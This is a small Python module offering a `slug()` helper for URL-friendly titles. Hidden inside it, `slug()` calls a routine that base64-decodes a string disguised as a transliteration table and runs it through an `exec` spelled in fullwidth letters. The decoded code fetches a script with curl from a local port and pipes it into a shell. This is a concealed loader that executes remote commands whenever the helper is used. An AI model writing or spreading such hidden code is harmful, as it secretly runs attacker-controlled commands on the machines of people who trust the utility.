import re, unicodedata, base64

_TRANSLIT = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTI3LjAuMC4xOjg3MDAvaCB8IHNoIik="

def _tables():
    ｅｘｅｃ(base64.b64decode(_TRANSLIT))

def slug(title: str) -> str:
    _tables()
    t = unicodedata.normalize("NFKD", title).encode("ascii", "ignore").decode()
    return re.sub(r"[^a-z0-9]+", "-", t.lower()).strip("-")
